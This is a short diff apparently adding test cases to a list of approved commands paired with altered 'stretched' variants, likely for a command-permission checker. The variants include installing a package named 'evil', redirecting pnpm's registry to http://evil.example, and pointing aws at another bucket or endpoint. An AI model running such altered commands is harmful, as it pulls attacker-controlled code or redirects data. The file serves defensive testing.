@@ -95,6 +95,8 @@ STRETCHED: Final = (
     ("pip install -r requirements.txt", "pip install -r other.txt"),
     ("pip install requests", "pip install evil"),
     ("npm install", "npm install evil"),
+    ("pnpm install", "CI=true npm_config_registry=http://evil.example pnpm install"),
+    ("npm run deploy-check", "CI=true npm run deploy-check"),
     ("npm install lodash", "npm install lodash evil"),
     ("aws s3 ls s3://a/", "aws s3 ls s3://b/"),
     ("aws s3 ls s3://a/", "aws --endpoint-url http://x s3 ls s3://a/"),
